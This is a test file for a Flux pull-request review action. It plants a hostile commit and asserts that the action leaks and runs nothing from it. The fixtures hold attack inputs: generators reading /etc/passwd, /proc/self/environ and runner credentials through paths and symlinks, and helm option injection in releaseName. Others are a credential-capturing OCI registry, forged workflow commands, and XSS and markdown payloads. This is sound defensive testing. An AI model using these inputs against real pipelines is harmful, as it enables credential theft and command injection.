/**
 * The action on a hostile pull request, every attack at once (issue 13): the PR's head commit
 * tries to read runner files and the environment into the review, write outside the workspace,
 * inject helm options, reach loopback, send our credentials to its own registry and forge
 * workflow commands and review sections. The review must contain none of it, the runner must
 * execute no command the PR wrote, and render must stay within memory.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { startFakeGitHub, type FakeGitHub } from '../support/github-api.js';
import { writeRepo, fluxKustomization } from '../support/repo.js';
import { PROJECT_ROOT, toolEnv } from '../support/tools.js';
import { readOutputs } from '../verify/github-outputs.js';

const TOKEN = 'ghs_hostileCanaryToken0123456789';
const ENV_CANARY = 'env-canary-7f3a9c1e';
const FILE_CANARY = 'runner-file-canary-51d2e8';
const REGISTRY_PASSWORD = 'registry-password-canary-9d41';

let gh: FakeGitHub;
let recorder: { server: Server; url: string; requests: string[]; authorizations: string[] };
let runner: string;
let repo: string;
let sentinel: string;

/** A loopback HTTP server that records every request (a URL resource and a foreign registry). */
async function startRecorder(): Promise<typeof recorder> {
  const requests: string[] = [];
  const authorizations: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    if (req.headers.authorization) authorizations.push(req.headers.authorization);
    res.writeHead(401, { 'www-authenticate': 'Basic realm="hostile"' }).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const url = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { server, url, requests, authorizations };
}

function git(...args: string[]) {
  execFileSync('git', ['-C', repo, ...args], { stdio: 'ignore' });
}

beforeAll(async () => {
  gh = await startFakeGitHub({ [TOKEN]: 'github-actions[bot]' });
  recorder = await startRecorder();
  runner = mkdtempSync(join(tmpdir(), 'fg-hostile-runner-'));
  writeFileSync(join(runner, 'credentials'), `${FILE_CANARY}\n`);
  sentinel = join(runner, 'written-by-the-pr');
  const outside = join(runner, 'outside-values.yaml');
  writeFileSync(outside, 'untouched: true\n');

  // Base: a benign cluster. Head: the same cluster with every attack added.
  repo = writeRepo({
    'clusters/prod/kustomization.yaml': 'resources: [apps.yaml]\n',
    'clusters/prod/apps.yaml': fluxKustomization('apps', './apps'),
    'apps/web.yaml':
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web, namespace: default}\ndata: {a: b}\n',
  });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-qm', 'base');

  const chart = (name: string) => ({
    [`charts/${name}/Chart.yaml`]: `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n`,
    [`charts/${name}/templates/cm.yaml`]:
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: {{ .Release.Name }}-files}\ndata:\n  stolen: {{ .Files.Get "stolen" | quote }}\n',
  });
  const release = (name: string, spec: Record<string, unknown>) =>
    JSON.stringify({
      apiVersion: 'helm.toolkit.fluxcd.io/v2',
      kind: 'HelmRelease',
      metadata: { name, namespace: 'default' },
      spec: {
        interval: '5m',
        chart: {
          spec: {
            chart: './charts/leaky',
            sourceRef: { kind: 'GitRepository', name: 'flux-system', namespace: 'flux-system' },
          },
        },
        ...spec,
      },
    });
  writeRepo(
    {
      'clusters/prod/kustomization.yaml': 'resources: [apps.yaml, attacks.yaml]\n',
      'clusters/prod/attacks.yaml': [
        fluxKustomization('steal-passwd', './attacks/passwd'),
        fluxKustomization('steal-environ', './attacks/environ'),
        fluxKustomization('steal-dotdot', './attacks/dotdot'),
        fluxKustomization('steal-runner', './attacks/runner'),
        fluxKustomization('url-resource', './attacks/url'),
        fluxKustomization('symlinked', './attacks/symlinked'),
        fluxKustomization('forged', './attacks/forged'),
        fluxKustomization('releases', './attacks/releases'),
        fluxKustomization('foreign-registry', './attacks/oci'),
      ].join('\n---\n'),
      'attacks/passwd/kustomization.yaml': 'configMapGenerator: [{name: passwd, files: [/etc/passwd]}]\n',
      'attacks/environ/kustomization.yaml':
        'configMapGenerator: [{name: environ, envs: [/proc/self/environ]}]\n',
      'attacks/dotdot/kustomization.yaml': `configMapGenerator: [{name: dotdot, files: [../../../../../../../..${runner}/credentials]}]\n`,
      'attacks/runner/kustomization.yaml': `configMapGenerator: [{name: runner, files: [${runner}/credentials]}]\n`,
      'attacks/url/kustomization.yaml': `resources: [http://${recorder.url}/x.yaml]\n`,
      'attacks/forged/cm.yaml': [
        'apiVersion: v1',
        'kind: ConfigMap',
        'metadata:',
        '  name: "forged\\n## Fake section\\nAll checks passed"',
        '  namespace: default',
        'data:',
        '  script: |',
        '    ::warning file=x::pwned-warning',
        '    ::set-output name=verified::pwned-output',
        '    ::stop-commands::pwned',
        '    ::error::pwned-error',
        '    ::pwned::',
        '---',
        'apiVersion: apps/v1',
        'kind: Deployment',
        'metadata: {name: images, namespace: default}',
        'spec:',
        '  selector: {matchLabels: {app: x}}',
        '  template:',
        '    metadata: {labels: {app: x}}',
        '    spec:',
        '      containers:',
        '        - name: a',
        '          image: "nginx:1<img src=x onerror=alert(1)>"',
        '        - name: b',
        '          image: "**pwned** [click](https://evil.example) @octocat </details>"',
      ].join('\n'),
      'attacks/releases/releases.yaml': [
        release('inject-set-file', { releaseName: '--set-file=x=/etc/passwd' }),
        release('inject-output-dir', { releaseName: `--output-dir=${sentinel}` }),
        release('values-link', {
          chart: {
            spec: {
              chart: './charts/linked',
              sourceRef: { kind: 'GitRepository', name: 'flux-system', namespace: 'flux-system' },
            },
          },
          values: { x: 1 },
        }),
        release('leaky', {}),
      ].join('\n---\n'),
      ...chart('leaky'),
      ...chart('linked'),
      'attacks/oci/source.yaml': [
        'apiVersion: source.toolkit.fluxcd.io/v1',
        'kind: OCIRepository',
        'metadata: {name: foreign, namespace: flux-system}',
        `spec: {interval: 5m, url: "oci://${recorder.url}/steal/creds", ref: {tag: latest}, insecure: true}`,
        '---',
        fluxKustomization('from-foreign', './', {}, 'OCIRepository/foreign'),
      ].join('\n'),
    },
    repo,
  );
  // Links the PR adds: a resource, a chart file and the chart's own values.yaml pointing outside.
  mkdirSync(join(repo, 'attacks', 'symlinked'), { recursive: true });
  symlinkSync('/etc/passwd', join(repo, 'attacks', 'symlinked', 'passwd.yaml'));
  symlinkSync(join(runner, 'credentials'), join(repo, 'charts', 'leaky', 'stolen'));
  symlinkSync(outside, join(repo, 'charts', 'linked', 'values.yaml'));
  mkdirSync(dirname(sentinel), { recursive: true });
  git('add', '-A');
  git('commit', '-qm', 'hostile');
}, 120000);

afterAll(async () => {
  await gh.stop();
  await new Promise<void>((r) => recorder.server.close(() => r()));
});

/** spawn, collected: a synchronous child would block the loopback stand-ins of this process. */
function runAsync(
  command: string,
  args: string[],
  options: { cwd: string; env: NodeJS.ProcessEnv; timeout: number; encoding?: string; maxBuffer?: number },
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(command, args, { cwd: options.cwd, env: options.env, timeout: options.timeout });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

/** Lines of an Actions log as the runner reads them: the commands it would execute. */
function executedCommands(stdout: string): string[] {
  const executed: string[] = [];
  let stopToken: string | undefined;
  for (const line of stdout.split('\n')) {
    const m = /^::([\w-]+)(?: [^:]*)?::(.*)$/.exec(line);
    if (!m) continue;
    if (stopToken !== undefined) {
      if (m[1] === stopToken) stopToken = undefined;
      continue;
    }
    if (m[1] === 'stop-commands') stopToken = m[2];
    executed.push(line);
  }
  return executed;
}

describe('the action on a hostile pull request', () => {
  /** Every check below is about a run that got as far as posting its review. */
  const reviewed = () => expect(comment).toContain('steal-passwd');
  let stdout = '';
  let stderr = '';
  let comment = '';
  let summary = '';
  let outputs: Record<string, string> = {};
  let maxRssKiB = 0;
  let status: number | null = null;

  beforeAll(async () => {
    const event = join(runner, 'event.json');
    writeFileSync(
      event,
      JSON.stringify({
        pull_request: {
          number: 7,
          head: { repo: { full_name: 'acme/fleet' } },
          base: { repo: { full_name: 'acme/fleet' } },
        },
      }),
    );
    const outputFile = join(runner, 'output');
    const summaryFile = join(runner, 'summary');
    writeFileSync(outputFile, '');
    writeFileSync(summaryFile, '');
    // Asynchronous: the GitHub and registry stand-ins answer from this process meanwhile.
    const r = await runAsync(
      '/usr/bin/time',
      ['-v', process.execPath, '--import', './scripts/ts-loader.mjs', 'src/index.ts'],
      {
        cwd: PROJECT_ROOT,
        encoding: 'utf8',
        maxBuffer: 256 * 1024 * 1024,
        timeout: 600000,
        env: toolEnv({
          GITHUB_ACTIONS: 'true',
          GITHUB_OUTPUT: outputFile,
          GITHUB_STEP_SUMMARY: summaryFile,
          GITHUB_API_URL: gh.url,
          GITHUB_REPOSITORY: 'acme/fleet',
          GITHUB_EVENT_PATH: event,
          GITHUB_EVENT_NAME: 'pull_request',
          GITHUB_TOKEN: TOKEN,
          RUNNER_TEMP: runner,
          FLUXGATE_TEST_CANARY: ENV_CANARY,
          INPUT_COMMAND: 'diff',
          INPUT_REPO: repo,
          INPUT_BASE: 'HEAD~1',
          INPUT_HEAD: 'HEAD',
          INPUT_PATH: 'clusters/prod',
          INPUT_COMMENT: 'always',
          INPUT_CREDS: `bot:${REGISTRY_PASSWORD}`,
          'INPUT_GITHUB-TOKEN': TOKEN,
        }),
      },
    );
    status = r.status;
    // `::add-mask::` lines are read by the runner and never shown: they hold the values it masks.
    stdout = r.stdout
      .split('\n')
      .filter((l) => !l.startsWith('::add-mask::'))
      .join('\n');
    stderr = r.stderr;
    maxRssKiB = Number(/Maximum resident set size \(kbytes\): (\d+)/.exec(r.stderr)?.[1] ?? NaN);
    comment = gh.comments.map((c) => c.body).join('\n');
    summary = readFileSync(summaryFile, 'utf8');
    outputs = readOutputs(outputFile);
  }, 660000);

  it('posts a review that fails the check on the attacks', () => {
    expect(status).toBe(1);
    expect(gh.comments).toHaveLength(1);
    expect(comment).toContain('steal-passwd');
  });

  it('leaks no runner file, environment variable, token or registry password anywhere', () => {
    reviewed();
    const passwd = readFileSync('/etc/passwd', 'utf8').split('\n')[0]!;
    for (const [where, text] of Object.entries({
      stdout,
      stderr,
      comment,
      summary,
      outputs: JSON.stringify(outputs),
    })) {
      for (const canary of [passwd, ENV_CANARY, FILE_CANARY, TOKEN, REGISTRY_PASSWORD]) {
        expect({ where, leaked: text.includes(canary) ? canary : undefined }).toEqual({
          where,
          leaked: undefined,
        });
        expect(text.includes(Buffer.from(canary).toString('base64'))).toBe(false);
      }
    }
  });

  it('executes no workflow command the pull request wrote', () => {
    reviewed();
    // Our own annotations (a risk line at its file and line) may quote PR text in their message,
    // escaped by @actions/core; the PR may never choose a command or one of its properties.
    const chosenByPr = (line: string) => {
      const annotation = /^::(?:error|warning|notice)(?: [^:]*)?::/.exec(line);
      return (annotation ? annotation[0] : line).includes('pwned');
    };
    expect(executedCommands(stdout).filter(chosenByPr)).toEqual([]);
    expect(outputs.verified ?? '').not.toContain('pwned');
  });

  it('adds no section and no markup the pull request wrote to the review', () => {
    reviewed();
    // Code spans and fenced blocks show their text literally on GitHub: what renders is the rest.
    const rendered = (markdown: string) => markdown.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    for (const text of [comment, summary].map(rendered)) {
      expect(text).not.toMatch(/^#+ Fake section/m);
      expect(text).not.toMatch(/<img src=x/);
      expect(text).not.toMatch(/(^|[^`\\])\*\*pwned\*\*/);
      expect(text).not.toMatch(/(^|\s)@octocat\b/);
      expect(text).not.toMatch(/\]\(https:\/\/evil\.example\)/);
    }
  });

  it('reaches no loopback URL, sends no credential to a registry the PR names, writes nothing outside', () => {
    reviewed();
    expect(recorder.requests.filter((r) => r.includes('/x.yaml'))).toEqual([]);
    expect(recorder.authorizations).toEqual([]);
    expect(existsSync(sentinel)).toBe(false);
    expect(readFileSync(join(runner, 'outside-values.yaml'), 'utf8')).toBe('untouched: true\n');
  });

  it('stays under 1 GiB of memory', () => {
    reviewed();
    expect(maxRssKiB).toBeGreaterThan(0);
    expect(maxRssKiB).toBeLessThan(1024 * 1024);
  });
});
